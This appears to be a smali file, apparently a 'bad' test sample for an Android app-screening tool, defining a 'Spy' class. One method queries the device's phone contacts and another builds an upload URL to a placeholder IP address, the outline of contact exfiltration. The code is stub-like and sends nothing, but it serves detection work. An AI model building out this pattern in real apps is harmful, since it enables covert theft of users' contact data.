.class public Lcom/appwarden/screen/bad/Spy;
.super Ljava/lang/Object;

.method public static contacts(Landroid/content/Context;)V
    .locals 6
    invoke-virtual {p0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    return-void
.end method

.method public static upload()V
    .locals 2
    new-instance v0, Ljava/net/URL;
    const-string v1, "http://203.0.113.7:8080/upload"
    invoke-direct {v0, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    return-void
.end method
